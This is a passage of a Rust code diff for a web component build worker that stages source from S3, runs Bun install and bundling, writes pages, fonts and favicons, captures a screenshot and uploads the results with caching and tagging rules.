+            fs::rename(from, to).await
+        }
+        result => result,
+    }
+}
+
+/// Downloads component source staged in the bucket. Keys outside `prefix`
+/// are refused (403) and a missing object is the caller's mistake (400).
+async fn fetch_source<S: ObjectStore>(
+    store: &S,
+    bucket_name: &str,
+    key: &str,
+    prefix: &str,
+) -> Result<String, StepFailure> {
+    let failure = |status, message| StepFailure {
+        status,
+        message,
+        code: None,
+    };
+
+    if !key.starts_with(prefix) {
+        return Err(failure(
+            403,
+            format!("source_s3_key must start with {}", prefix),
+        ));
+    }
+
+    let source = store
+        .get(bucket_name, key)
+        .await
+        .map_err(|e| failure(500, format!("Failed to download {}: {}", key, e)))?
+        .ok_or_else(|| failure(400, format!("source_s3_key not found: {}", key)))?;
+
+    String::from_utf8(source).map_err(|_| failure(400, format!("{} is not valid UTF-8", key)))
+}
+
+/// A workspace that is already gone needs no cleanup; anything else (such as
+/// a permission error) means the container's disk is in a bad state and is
+/// worth surfacing.
+fn cleanup_warning(result: std::io::Result<()>) -> Option<String> {
+    match result {
+        Ok(()) => None,
+        Err(e) if e.kind() == std::io::ErrorKind::NotFound => None,
+        Err(e) => Some(format!("Failed to remove workspace: {}", e)),
+    }
+}
+
+/// How `cp` reports `ENOSPC` on stderr.
+const CP_STORAGE_FULL_TEXT: &str = "No space left on device";
+
+/// A failed workspace write or copy. The I/O error is kept, when there was
+/// one, so [`workspace_failure`] can tell a full disk from other failures.
+#[derive(Debug)]
+struct WorkspaceError {
+    message: String,
+    source: Option<std::io::Error>,
+}
+
+impl WorkspaceError {
+    fn io(message: String, source: std::io::Error) -> Self {
+        Self {
+            message,
+            source: Some(source),
+        }
+    }
+
+    fn is_storage_full(&self) -> bool {
+        self.source.as_ref().is_some_and(|e| {
+            e.kind() == std::io::ErrorKind::StorageFull || e.raw_os_error() == Some(libc::ENOSPC)
+        })
+    }
+}
+
+impl From<String> for WorkspaceError {
+    fn from(message: String) -> Self {
+        Self {
+            message,
+            source: None,
+        }
+    }
+}
+
+impl fmt::Display for WorkspaceError {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.write_str(&self.message)
+    }
+}
+
+/// The response for a failed workspace write or copy. When the disk is full,
+/// which on a warm container usually means earlier builds leaked their
+/// workspaces, those are removed from `tmp_dir` so the next invocation here
+/// has room and the caller gets a 507 telling them a retry should succeed;
+/// anything else is a 500.
+async fn workspace_failure(
+    error: WorkspaceError,
+    tmp_dir: &Path,
+    workspace_dir: &Path,
+) -> StepFailure {
+    let message = error.message.clone();
+    if !error.is_storage_full() {
+        return StepFailure {
+            status: 500,
+            message,
+            code: None,
+        };
+    }
+
+    tracing::error!(error = %message, "Worker is out of disk space");
+    let removed = reclaim_storage(tmp_dir, workspace_dir).await;
+    tracing::warn!(
+        removed = removed,
+        "Removed stale workspaces to free disk space"
+    );
+
+    StepFailure {
+        status: 507,
+        message: format!(
+            "insufficient storage on worker: {}. Stale workspaces have been cleared; retry the build.",
+            message
+        ),
+        code: Some("storage_full"),
+    }
+}
+
+/// Removes everything earlier builds may have left in `tmp_dir`: the whole
+/// workspace trash, ignoring its grace period, and any other directory
+/// holding a `package.json` (a workspace or a half-copied template) apart
+/// from `keep`. Returns how many directories went; failures are logged and
+/// skipped, since this is already an error path.
+async fn reclaim_storage(tmp_dir: &Path, keep: &Path) -> usize {
+    let mut entries = match fs::read_dir(tmp_dir).await {
+        Ok(entries) => entries,
+        Err(e) => {
+            tracing::warn!(error = %e, "Failed to list {}", tmp_dir.display());
+            return 0;
+        }
+    };
+
+    let trash_name = Path::new(TRASH_DIR).file_name();
+    let mut removed = 0;
+    while let Ok(Some(entry)) = entries.next_entry().await {
+        let path = entry.path();
+        if path == keep {
+            continue;
+        }
+
+        if Some(entry.file_name().as_os_str()) == trash_name {
+            match sweep_trash(&path, Duration::ZERO, SystemTime::now()).await {
+                Ok(count) => removed += count,
+                Err(e) => tracing::warn!(error = %e, "Failed to empty workspace trash"),
+            }
+        } else if fs::try_exists(path.join("package.json"))
+            .await
+            .unwrap_or(false)
+        {
+            match fs::remove_dir_all(&path).await {
+                Ok(()) => removed += 1,
+                Err(e) => {
+                    tracing::warn!(error = %e, path = %path.display(), "Failed to remove stale workspace")
+                }
+            }
+        }
+    }
+
+    removed
+}
+
+/// Where finished workspaces wait out `WORKSPACE_TRASH_GRACE_SECS` before
+/// being deleted, so a retry or someone debugging can still inspect them.
+const TRASH_DIR: &str = "/tmp/.nimbus-trash";
+
+/// Moves a finished workspace into `trash_dir` as `{component_id}-{millis}`.
+async fn move_to_trash(
+    workspace_dir: &Path,
+    trash_dir: &Path,
+    component_id: &str,
+    now: SystemTime,
+) -> std::io::Result<()> {
+    create_dir_all(trash_dir).await?;
+    fs::rename(workspace_dir, trash_entry(trash_dir, component_id, now)).await
+}
+
+/// Where [`move_to_trash`] puts a workspace trashed at `now`.
+fn trash_entry(trash_dir: &Path, component_id: &str, now: SystemTime) -> PathBuf {
+    let millis = now
+        .duration_since(UNIX_EPOCH)
+        .unwrap_or_default()
+        .as_millis();
+    trash_dir.join(format!("{}-{}", component_id, millis))
+}
+
+/// Deletes trashed workspaces moved there more than `grace` before `now`,
+/// going by the timestamp in their name, and returns how many went.
+async fn sweep_trash(trash_dir: &Path, grace: Duration, now: SystemTime) -> std::io::Result<usize> {
+    let mut entries = match fs::read_dir(trash_dir).await {
+        Ok(entries) => entries,
+        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(0),
+        Err(e) => return Err(e),
+    };
+
+    let mut removed = 0;
+    while let Some(entry) = entries.next_entry().await? {
+        let name = entry.file_name();
+        let trashed_at = name
+            .to_str()
+            .and_then(|name| name.rsplit_once('-'))
+            .and_then(|(_, millis)| millis.parse::<u64>().ok())
+            .map(|millis| UNIX_EPOCH + Duration::from_millis(millis));
+
+        let expired =
+            trashed_at.is_some_and(|at| now.duration_since(at).unwrap_or_default() > grace);
+        if expired {
+            fs::remove_dir_all(entry.path()).await?;
+            removed += 1;
+        }
+    }
+
+    Ok(removed)
+}
+
+/// Writes a generated or submitted file, naming it in the error so a failure
+/// can be told apart from the other workspace writes.
+async fn write_workspace_file(path: &Path, contents: &str) -> Result<(), WorkspaceError> {
+    let file_name = path
+        .file_name()
+        .map(|name| name.to_string_lossy())
+        .unwrap_or_default();
+
+    write(path, contents).await.map_err(|e| {
+        tracing::error!(error = %e, file = %file_name, "Failed to write workspace file");
+        WorkspaceError::io(format!("Failed to write {}: {}", file_name, e), e)
+    })
+}
+
+/// Largest generated file echoed by `return_generated`; bigger ones (usually
+/// pages with a large inlined import map or snippets) are returned as `null`.
+const MAX_RETURNED_FILE_BYTES: usize = 64 * 1024;
+
+/// Generated file contents keyed by name, for `return_generated`.
+fn generated_files(files: &[(&str, &str)]) -> serde_json::Value {
+    files
+        .iter()
+        .map(|(name, content)| {
+            let content = (content.len() <= MAX_RETURNED_FILE_BYTES).then_some(*content);
+            (name.to_string(), json!(content))
+        })
+        .collect::<serde_json::Map<_, _>>()
+        .into()
+}
+
+/// Copies the template's `globals.css` into `src`, returning whether there
+/// was one. A template without it is broken unless `lenient` allows for
+/// templates without Tailwind. Nothing stands in for the missing file: the
+/// entry point imports no stylesheet and the CSS step is skipped, so there
+/// is no import to satisfy and no empty `index.css` to publish.
+async fn copy_stylesheet(
+    workspace_dir: &Path,
+    src_dir: &Path,
+    lenient: bool,
+) -> Result<bool, WorkspaceError> {
+    let globals_source = workspace_dir.join("globals.css");
+    let globals_dest = src_dir.join("globals.css");
+
+    if !fs::try_exists(&globals_source).await.unwrap_or(false) {
+        if !lenient {
+            tracing::error!(source = %globals_source.display(), "Template has no globals.css");
+            return Err("server misconfigured: the template has no globals.css"
+                .to_string()
+                .into());
+        }
+        tracing::warn!(source = %globals_source.display(), "Template has no globals.css");
+        return Ok(false);
+    }
+
+    if let Err(e) = fs::copy(&globals_source, &globals_dest).await {
+        tracing::error!(
+            error = %e,
+            source = %globals_source.display(),
+            dest = %globals_dest.display(),
+            "Failed to copy globals.css"
+        );
+        return Err(WorkspaceError::io(
+            format!("Failed to copy globals.css: {}", e),
+            e,
+        ));
+    }
+
+    tracing::info!(
+        source = %globals_source.display(),
+        dest = %globals_dest.display(),
+        "Successfully copied globals.css"
+    );
+    Ok(true)
+}
+
+/// Puts a submitted tsconfig where Bun looks for one, in place of the
+/// template's.
+async fn write_tsconfig(workspace_dir: &Path, tsconfig: &str) -> Result<(), WorkspaceError> {
+    write_workspace_file(&workspace_dir.join("tsconfig.json"), tsconfig).await
+}
+
+/// Writes a `{name}.html` page loading `{name}.js` for every extra entry.
+async fn write_entry_pages(
+    out_dir: &Path,
+    entries: &[NamedEntry],
+    options: &HtmlOptions<'_>,
+) -> Result<(), WorkspaceError> {
+    for entry in entries {
+        let page = render_html(&HtmlOptions {
+            entry_name: Some(&entry.name),
+            ..options.clone()
+        });
+        write_workspace_file(&out_dir.join(format!("{}.html", entry.name)), &page).await?;
+    }
+
+    Ok(())
+}
+
+/// Writes a `{name}.html` copy of the main page for every viewport variant.
+async fn write_variant_pages(
+    out_dir: &Path,
+    variants: &[ViewportVariant],
+    options: &HtmlOptions<'_>,
+) -> Result<(), WorkspaceError> {
+    for variant in variants {
+        let page = render_html(&HtmlOptions {
+            variant: Some(variant),
+            ..options.clone()
+        });
+        write_workspace_file(&out_dir.join(format!("{}.html", variant.name)), &page).await?;
+    }
+
+    Ok(())
+}
+
+/// Returns `bun run prebuild` if the template's package.json defines a
+/// `prebuild` script (e.g. codegen or icon generation), or `None` otherwise.
+async fn prebuild_command(
+    bun_bin: &Path,
+    workspace_dir: &Path,
+) -> Result<Option<Command>, StepFailure> {
+    let package_json = fs::read(workspace_dir.join("package.json"))
+        .await
+        .map_err(|e| StepFailure {
+            status: 500,
+            message: format!("Failed to read package.json: {}", e),
+            code: None,
+        })?;
+    let package: serde_json::Value =
+        serde_json::from_slice(&package_json).map_err(|e| StepFailure {
+            status: 500,
+            message: format!("Failed to parse package.json: {}", e),
+            code: None,
+        })?;
+
+    if package["scripts"]["prebuild"].as_str().is_none() {
+        return Ok(None);
+    }
+
+    let mut command = Command::new(bun_bin);
+    command
+        .arg("run")
+        .arg("prebuild")
+        .current_dir(workspace_dir);
+
+    Ok(Some(command))
+}
+
+/// Picks warning lines out of a successful step's stderr. When
+/// `fail_on_warnings` is set, any warning fails the build with a 422.
+fn check_warnings(
+    name: &str,
+    output: &Output,
+    fail_on_warnings: bool,
+) -> Result<Vec<String>, StepFailure> {
+    let stderr = String::from_utf8_lossy(&output.stderr);
+    let warnings: Vec<String> = stderr
+        .lines()
+        .filter(|line| {
+            let line = line.trim().to_ascii_lowercase();
+            line.starts_with("warn") || line.contains("warning")
+        })
+        .map(|line| line.trim().to_string())
+        .collect();
+
+    if fail_on_warnings && !warnings.is_empty() {
+        return Err(StepFailure {
+            status: 422,
+            message: format!("{} emitted warnings:\n{}", name, warnings.join("\n")),
+            code: None,
+        });
+    }
+
+    Ok(warnings)
+}
+
+/// Marks the response so clients can tell a clean build from one where the
+/// toolchain succeeded but complained.
+fn add_warnings(response_body: &mut serde_json::Value, warnings: &[String]) {
+    response_body["hasWarnings"] = json!(!warnings.is_empty());
+    if !warnings.is_empty() {
+        response_body["warnings"] = json!(warnings);
+    }
+}
+
+/// Workspace directory the per-format library builds are written under
+/// before their bundles are moved into `dist`.
+const FORMATS_DIR: &str = ".formats";
+
+/// Bundles the main entry point again in each of `formats`, moving each
+/// result into `out_dir` as `index.{format}.js` so it is uploaded with the
+/// rest of the build. The sources are those of the main build, so its
+/// warnings aren't collected a second time.
+async fn build_formats(
+    bundler: &(dyn Bundler + Send + Sync),
+    options: &BunBuildOptions<'_>,
+    workspace_dir: &Path,
+    out_dir: &Path,
+    formats: &[OutputFormat],
+    timeout: Duration,
+) -> Result<Vec<(OutputFormat, String)>, StepFailure> {
+    let mut files = Vec::new();
+
+    for &format in formats {
+        let outdir = format!("./{}/{}", FORMATS_DIR, format.as_arg());
+        let format_build = BunBuildOptions {
+            entry_points: &[],
+            metafile: None,
+            splitting: false,
+            format: Some(format),
+            outdir: Some(&outdir),
+            ..*options
+        };
+
+        let mut command = Command::new(bundler.program());
+        command
+            .args(bundler.args(&format_build))
+            .current_dir(workspace_dir);
+        run_build_step(bundler.step_name(), &mut command, timeout).await?;
+
+        let file_name = format.file_name();
+        let built = workspace_dir.join(&outdir).join("index.js");
+        fs::rename(&built, out_dir.join(&file_name))
+            .await
+            .map_err(|e| StepFailure {
+                status: 500,
+                message: format!(
+                    "{} produced no {} bundle: {}",
+                    bundler.step_name(),
+                    format.as_arg(),
+                    e
+                ),
+                code: None,
+            })?;
+        files.push((format, file_name));
+    }
+
+    Ok(files)
+}
+
+/// Rejects a bundle larger than `limit` bytes before it reaches the CDN.
+async fn check_bundle_size(bundle_path: &Path, limit: u64) -> Result<(), StepFailure> {
+    let size = fs::metadata(bundle_path)
+        .await
+        .map_err(|e| StepFailure {
+            status: 500,
+            message: format!("Failed to stat {}: {}", bundle_path.display(), e),
+            code: None,
+        })?
+        .len();
+
+    if size > limit {
+        return Err(StepFailure {
+            status: 413,
+            message: format!(
+                "bundle exceeds size limit: {} bytes (allowed {} bytes)",
+                size, limit
+            ),
+            code: None,
+        });
+    }
+
+    Ok(())
+}
+
+/// Adds `dependencies` to the workspace's package.json and writes the lockfile,
+/// if any, returning the `bun install` command to run. With a lockfile the
+/// install is frozen so versions resolve exactly as locked.
+async fn prepare_install(
+    bun_bin: &Path,
+    workspace_dir: &Path,
+    dependencies: &HashMap<String, String>,
+    lockfile: Option<&str>,
+) -> Result<Command, StepFailure> {
+    let server_error = |message: String| StepFailure {
+        status: 500,
+        message,
+        code: None,
+    };
+
+    let package_json_path = workspace_dir.join("package.json");
+    let package_json = fs::read(&package_json_path)
+        .await
+        .map_err(|e| server_error(format!("Failed to read package.json: {}", e)))?;
+    let mut package: serde_json::Value = serde_json::from_slice(&package_json)
+        .map_err(|e| server_error(format!("Failed to parse package.json: {}", e)))?;
+
+    if !package["dependencies"].is_object() {
+        package["dependencies"] = json!({});
+    }
+    for (name, version) in dependencies {
+        package["dependencies"][name] = json!(version);
+    }
+
+    write(&package_json_path, package.to_string())
+        .await
+        .map_err(|e| server_error(format!("Failed to write package.json: {}", e)))?;
+
+    let mut command = Command::new(bun_bin);
+    command.arg("install").current_dir(workspace_dir);
+
+    if let Some(lockfile) = lockfile {
+        let (file_name, content) = decode_lockfile(lockfile).map_err(|e| StepFailure {
+            status: 400,
+            message: format!("Invalid bun_lockfile: {}", e),
+            code: None,
+        })?;
+
+        // Only one lockfile may be present, or bun picks whichever it prefers.
+        for stale in ["bun.lock", "bun.lockb"] {
+            let _ = fs::remove_file(workspace_dir.join(stale)).await;
+        }
+        write(workspace_dir.join(file_name), content)
+            .await
+            .map_err(|e| server_error(format!("Failed to write {}: {}", file_name, e)))?;
+
+        command.arg("--frozen-lockfile");
+    }
+
+    Ok(command)
+}
+
+/// Largest favicon accepted, after decoding.
+const MAX_FAVICON_BYTES: usize = 100 * 1024;
+
+/// Decodes a submitted favicon and picks its file name from the content,
+/// accepting only ICO, PNG and SVG images.
+fn decode_favicon(favicon: &str) -> Result<(&'static str, Vec<u8>), String> {
+    let bytes = BASE64
+        .decode(favicon.trim())
+        .map_err(|e| format!("favicon must be base64: {}", e))?;
+
+    if bytes.len() > MAX_FAVICON_BYTES {
+        return Err(format!(
+            "favicon exceeds {} bytes after decoding",
+            MAX_FAVICON_BYTES
+        ));
+    }
+
+    let file_name = if bytes.starts_with(&[0, 0, 1, 0]) {
+        "favicon.ico"
+    } else if bytes.starts_with(b"\x89PNG\r\n\x1a\n") {
+        "favicon.png"
+    } else if String::from_utf8_lossy(&bytes[..bytes.len().min(256)])
+        .trim_start()
+        .starts_with("<svg")
+    {
+        "favicon.svg"
+    } else {
+        return Err("favicon must be an ICO, PNG or SVG image".to_string());
+    };
+
+    Ok((file_name, bytes))
+}
+
+/// Writes the favicon into `out_dir` so it is uploaded with the page,
+/// returning the file name to link.
+async fn write_favicon(out_dir: &Path, favicon: &str) -> Result<&'static str, WorkspaceError> {
+    let (file_name, bytes) = decode_favicon(favicon)?;
+
+    write(out_dir.join(file_name), bytes)
+        .await
+        .map_err(|e| WorkspaceError::io(format!("Failed to write {}: {}", file_name, e), e))?;
+
+    Ok(file_name)
+}
+
+/// How many `fonts` a request may carry.
+const MAX_FONTS: usize = 10;
+
+/// Largest font accepted, after decoding.
+const MAX_FONT_BYTES: usize = 2 * 1024 * 1024;
+
+fn font_family(font: &AssetFile) -> &str {
+    font.family.as_deref().unwrap_or_else(|| {
+        font.name
+            .rsplit_once('.')
+            .map_or(font.name.as_str(), |(stem, _)| stem)
+    })
+}
+
+/// Checks a submitted font's name and family, which end up in the page and
+/// `fonts.css`, and decodes its content.
+fn decode_font(font: &AssetFile) -> Result<Vec<u8>, String> {
+    let valid_name = font.name.len() <= 128
+        && !font.name.starts_with('.')
+        && font
+            .name
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.'));
+    if !valid_name {
+        return Err(format!("invalid font name: {}", font.name));
+    }
+    if font_type(&font.name).is_none() {
+        return Err(format!(
+            "font must be a WOFF2, WOFF, TTF or OTF file: {}",
+            font.name
+        ));
+    }
+
+    let family = font_family(font);
+    let valid_family = !family.trim().is_empty()
+        && family.len() <= 128
+        && family
+            .chars()
+            .all(|c| c == ' ' || (c.is_ascii_graphic() && !"\"'\\;{}<>".contains(c)));
+    if !valid_family {
+        return Err(format!("invalid font family for {}: {}", font.name, family));
+    }
+
+    let bytes = BASE64
+        .decode(font.content.trim())
+        .map_err(|e| format!("font {} must be base64: {}", font.name, e))?;
+    if bytes.len() > MAX_FONT_BYTES {
+        return Err(format!(
+            "font {} exceeds {} bytes after decoding",
+            font.name, MAX_FONT_BYTES
+        ));
+    }
+
+    Ok(bytes)
+}
+
+/// Writes the fonts under `out_dir/fonts` along with the stylesheet
+/// declaring them, so they are uploaded with the page, returning their file
+/// names for the page to preload.
+async fn write_fonts(out_dir: &Path, fonts: &[AssetFile]) -> Result<Vec<String>, WorkspaceError> {
+    let fonts_dir = out_dir.join(FONTS_DIR);
+    create_dir_all(&fonts_dir)
+        .await
+        .map_err(|e| WorkspaceError::io(format!("Failed to create {}: {}", FONTS_DIR, e), e))?;
+
+    let mut stylesheet = String::new();
+    let mut file_names = Vec::new();
+    for font in fonts {
+        let bytes = decode_font(font)?;
+        write(fonts_dir.join(&font.name), bytes)
+            .await
+            .map_err(|e| WorkspaceError::io(format!("Failed to write {}: {}", font.name, e), e))?;
+        stylesheet.push_str(&font_face_rule(font_family(font), &font.name));
+        file_names.push(font.name.clone());
+    }
+
+    write(out_dir.join(FONTS_STYLESHEET), stylesheet)
+        .await
+        .map_err(|e| {
+            WorkspaceError::io(format!("Failed to write {}: {}", FONTS_STYLESHEET, e), e)
+        })?;
+
+    Ok(file_names)
+}
+
+/// Text lockfiles (`bun.lock`) are JSON-like and passed through as-is;
+/// anything else is taken to be a base64-encoded binary `bun.lockb`.
+fn decode_lockfile(lockfile: &str) -> Result<(&'static str, Vec<u8>), base64::DecodeError> {
+    if lockfile.trim_start().starts_with('{') {
+        return Ok(("bun.lock", lockfile.as_bytes().to_vec()));
+    }
+
+    Ok(("bun.lockb", BASE64.decode(lockfile.trim())?))
+}
+
+/// Settings applied to every object an upload writes.
+#[derive(Debug, Default)]
+struct UploadOptions {
+    tagging: Option<String>,
+    /// Object metadata recording which component and build produced a file.
+    metadata: BTreeMap<String, String>,
+    /// File name globs, checked with [`glob_matches`], that are never uploaded.
+    exclude: Vec<String>,
+    /// Extra metadata for `.html` objects only, carrying requested response
+    /// headers.
+    html_metadata: BTreeMap<String, String>,
+    /// Requested `Cache-Control` overrides; see [`cache_control_for`].
+    cache_rules: Vec<CacheRule>,
+}
+
+/// Metadata keys the upload sets itself, which response headers may not use.
+const BUILD_METADATA_KEYS: &[&str] = &["component-id", "built-at", "label"];
+
+/// Longest `label` accepted; S3 caps all of an object's metadata at 2 KB.
+const MAX_LABEL_LEN: usize = 128;
+
+/// Metadata stored on every object a build uploads.
+fn build_metadata(
+    component_id: &str,
+    built_at: &str,
+    label: Option<&str>,
+) -> BTreeMap<String, String> {
+    let mut metadata = BTreeMap::from([
+        ("component-id".to_string(), component_id.to_string()),
+        ("built-at".to_string(), built_at.to_string()),
+    ]);
+    if let Some(label) = label {
+        metadata.insert("label".to_string(), label.to_string());
+    }
+    metadata
+}
+
+/// The tag set for a build's objects: its id and build time, then the
+/// deployment's `S3_OBJECT_TAGS` and the request's `tags` (sorted). `None`
+/// when neither adds anything, so objects go up untagged.
+fn object_tagging(
+    component_id: &str,
+    built_at: &str,
+    env_tags: Option<Vec<(String, String)>>,
+    request_tags: Option<&HashMap<String, String>>,
+) -> Result<Option<String>, String> {
+    if env_tags.is_none() && request_tags.is_none() {
+        return Ok(None);
+    }
+
+    let mut tags = vec![
+        ("component_id".to_string(), component_id.to_string()),
+        ("built_at".to_string(), built_at.to_string()),
+    ];
+    tags.extend(env_tags.into_iter().flatten());
+
+    let mut request_tags: Vec<_> = request_tags.cloned().into_iter().flatten().collect();
+    request_tags.sort();
+    tags.extend(request_tags);
+
+    encode_tagging(&tags).map(Some)
+}
+
+/// Header names must be HTTP tokens and values printable ASCII, since S3
+/// rejects anything else in metadata.
+fn validate_response_header(name: &str, value: &str) -> Result<(), String> {
+    let valid_name = !name.is_empty()
+        && name.len() <= 128
+        && name
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || "!#$%&'*+-.^_`|~".contains(c));
+    if !valid_name || BUILD_METADATA_KEYS.contains(&name.to_ascii_lowercase().as_str()) {
+        return Err(format!("invalid response header name: {}", name));
+    }
+
+    if value.len() > 1024 || !value.chars().all(|c| c == ' ' || c.is_ascii_graphic()) {
+        return Err(format!("invalid value for response header {}", name));
+    }
+
+    Ok(())
+}
+
+/// Patterns match a single file name, so only `*`, `?` and the characters
+/// Bun's output names use are allowed.
+fn validate_glob(pattern: &str) -> Result<(), String> {
+    let valid = !pattern.is_empty()
+        && pattern.len() <= 128
+        && pattern
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '*' | '?' | '.' | '-' | '_'));
+
+    if !valid {
+        return Err(format!("invalid exclude pattern: {}", pattern));
+    }
+
+    Ok(())
+}
+
+/// How many `cache_rules` a request may give.
+const MAX_CACHE_RULES: usize = 20;
+
+fn validate_cache_rule(rule: &CacheRule) -> Result<(), String> {
+    validate_glob(&rule.pattern)
+        .map_err(|_| format!("invalid cache_rules pattern: {}", rule.pattern))?;
+
+    let value = &rule.cache_control;
+    let valid = !value.trim().is_empty()
+        && value.len() <= 256
+        && value.chars().all(|c| c == ' ' || c.is_ascii_graphic());
+    if !valid {
+        return Err(format!(
+            "invalid cache_control for {}: {}",
+            rule.pattern, value
+        ));
+    }
+
+    Ok(())
+}
+
+/// Served to pages, so a republished component shows up on the next load.
+const HTML_CACHE_CONTROL: &str = "no-cache";
+
+/// Served to files whose name carries a content hash, which never change.
+const HASHED_CACHE_CONTROL: &str = "public, max-age=31536000, immutable";
+
+/// `Cache-Control` for a file no rule matches: pages are revalidated,
+/// content-hashed chunks and assets (Bun's `name-1a2b3c4d.ext`) cached for
+/// good, and anything else left to the CDN's defaults.
+fn default_cache_control(file_name: &str) -> Option<&'static str> {
+    if file_name.ends_with(".html") {
+        return Some(HTML_CACHE_CONTROL);
+    }
+
+    let stem = file_name.split('.').next().unwrap_or_default();
+    let hashed = stem.rsplit_once('-').is_some_and(|(_, hash)| {
+        hash.len() == 8
+            && hash
+                .chars()
+                .all(|c| c.is_ascii_digit() || c.is_ascii_lowercase())
+            && hash.chars().any(|c| c.is_ascii_digit())
+    });
+    hashed.then_some(HASHED_CACHE_CONTROL)
+}
+
+/// The first rule matching `file_name` wins; without one, the default.
+fn cache_control_for(file_name: &str, rules: &[CacheRule]) -> Option<String> {
+    rules
+        .iter()
+        .find(|rule| glob_matches(&rule.pattern, file_name))
+        .map(|rule| rule.cache_control.clone())
+        .or_else(|| default_cache_control(file_name).map(String::from))
+}
+
+/// Matches `name` against a glob where `*` is any run of characters and `?`
+/// any single character.
+fn glob_matches(pattern: &str, name: &str) -> bool {
+    let pattern: Vec<char> = pattern.chars().collect();
+    let name: Vec<char> = name.chars().collect();
+    let (mut p, mut n) = (0, 0);
+    let mut backtrack = None;
+
+    while n < name.len() {
+        match pattern.get(p) {
+            Some('*') => {
+                backtrack = Some((p, n));
+                p += 1;
+            }
+            Some(&c) if c == '?' || c == name[n] => {
+                p += 1;
+                n += 1;
+            }
+            _ => match backtrack {
+                Some((star, matched)) => {
+                    p = star + 1;
+                    n = matched + 1;
+                    backtrack = Some((star, matched + 1));
+                }
+                None => return false,
+            },
+        }
+    }
+
+    pattern[p..].iter().all(|&c| c == '*')
+}
+
+/// Prepends to `index.js` a statement that adds `index.css` to the document
+/// as a `<style>` element, then removes `index.css` so it isn't published.
+async fn inline_stylesheet(out_dir: &Path) -> Result<(), WorkspaceError> {
+    let css_path = out_dir.join("index.css");
+    let js_path = out_dir.join("index.js");
+
+    let css = fs::read_to_string(&css_path)
+        .await
+        .map_err(|e| WorkspaceError::io(format!("Failed to read index.css: {}", e), e))?;
+    let js = fs::read_to_string(&js_path)
+        .await
+        .map_err(|e| WorkspaceError::io(format!("Failed to read index.js: {}", e), e))?;
+
+    let injector = format!(
+        "(()=>{{const s=document.createElement(\"style\");s.textContent={};document.head.appendChild(s)}})();\n",
+        serde_json::to_string(&css).expect("string serializes")
+    );
+    write_workspace_file(&js_path, &(injector + &js)).await?;
+
+    fs::remove_file(&css_path)
+        .await
+        .map_err(|e| WorkspaceError::io(format!("Failed to remove index.css: {}", e), e))
+}
+
+/// The component's own page in sandbox mode, loaded by the published page's
+/// iframe.
+const SANDBOX_INNER_PAGE: &str = "sandboxed.html";
+
+/// Name of the PNG captured with `screenshot`, next to the page.
+const SCREENSHOT_FILE: &str = "preview.png";
+
+/// Viewport the screenshot is taken at.
+const SCREENSHOT_WINDOW_SIZE: &str = "1280,800";
+
+/// Loads the written page in a headless Chromium and saves what it rendered
+/// as [`SCREENSHOT_FILE`] in `out_dir`, so it is uploaded with the build.
+async fn capture_screenshot(
+    browser: &str,
+    out_dir: &Path,
+    index_name: &str,
+    timeout: Duration,
+) -> Result<(), StepFailure> {
+    let screenshot_path = out_dir.join(SCREENSHOT_FILE);
+    let page_url = format!("file://{}", out_dir.join(index_name).display());
+
+    let mut command = Command::new(browser);
+    command
+        .arg("--headless")
+        .arg("--disable-gpu")
+        .arg("--no-sandbox")
+        .arg("--hide-scrollbars")
+        .arg(format!("--window-size={}", SCREENSHOT_WINDOW_SIZE))
+        .arg(format!("--screenshot={}", screenshot_path.display()))
+        .arg(page_url);
+    run_build_step("Screenshot", &mut command, timeout).await?;
+
+    match fs::try_exists(&screenshot_path).await {
+        Ok(true) => Ok(()),
+        _ => Err(StepFailure {
+            status: 500,
+            message: "Screenshot failed: the browser wrote no image".to_string(),
+            code: None,
+        }),
+    }
+}
+
+/// Files checked by `verify`, when they were published.
+const VERIFIED_ASSETS: &[&str] = &["index.js", "index.css"];
+
+/// Confirms the page and the key assets among `published` exist under
+/// `prefix`, naming the first that doesn't.
+async fn verify_upload(
+    store: &impl ObjectStore,
+    bucket: &str,
+    prefix: &str,
+    index_name: &str,
+    published: &[String],
+) -> Result<(), StepFailure> {
+    let names = std::iter::once(index_name).chain(
+        VERIFIED_ASSETS
+            .iter()
+            .copied()
+            .filter(|asset| published.iter().any(|file| file == asset)),
+    );
+
+    for name in names {
+        let key = format!("{}/{}", prefix, name);
+        let found = store.head(bucket, &key).await.map_err(|e| StepFailure {
+            status: 500,
+            message: format!("Failed to verify {}: {}", key, e),
+            code: Some("verify_failed"),
+        })?;
+
+        if found.is_none() {
+            return Err(StepFailure {
+                status: 500,
+                message: format!("uploaded object is missing: {}", key),
+                code: Some("verify_failed"),
+            });
+        }
+    }
+
+    Ok(())
+}
+
+#[derive(Debug, Default, PartialEq)]
+struct UploadSummary {
+    uploaded: usize,
+    skipped: usize,
+    /// Names of every file now published under the prefix, uploaded or not.
+    files: Vec<String>,
+}
+
+/// Each published file with the URL it can be fetched from, so code-split
+/// chunks and emitted assets are discoverable as well as the page itself.
+fn file_listing(origin: &str, component_id: &str, files: &[String]) -> serde_json::Value {
+    files
+        .iter()
+        .map(|name| json!({ "name": name, "url": original_url(origin, component_id, name) }))
+        .collect()
+}
+
+/// The CloudFront URL of every published file, whichever origin the rest of
+/// the response uses.
+fn asset_urls(cloudfront_domain: &str, prefix: &str, files: &[String]) -> Vec<String> {
+    let origin = format!("https://{}", normalize_domain(cloudfront_domain));
+    files
+        .iter()
+        .map(|name| original_url(&origin, prefix, name))
+        .collect()
+}
+
+/// Uploads every file in `dir` under `prefix`, skipping files whose content
+/// already matches the ETag of the object stored at the same key and whose
+/// content type, tags, metadata and cache control haven't changed either.
+async fn upload_dir<S: ObjectStore>(
+    store: &S,
+    bucket_name: &str,
+    dir: &Path,
+    prefix: &str,
+    options: &UploadOptions,
+) -> Result<UploadSummary, Error> {
+    let mut summary = UploadSummary::default();
+    let mut files = Vec::new();
+
+    for (file_path, relative_path) in list_files(dir).await? {
+        let Some(file_name) = file_path.file_name().and_then(|n| n.to_str()) else {
+            return Err(format!("file name is not valid UTF-8: {}", file_path.display()).into());
+        };
+
+        if options
+            .exclude
+            .iter()
+            .any(|pattern| glob_matches(pattern, file_name))
+        {
+            tracing::info!(file = %file_name, "Excluding file from upload");
+            continue;
+        }
+
+        let s3_key = format!("{}/{}", prefix, relative_path);
+        let file_content = fs::read(&file_path).await?;
+
+        summary.files.push(relative_path);
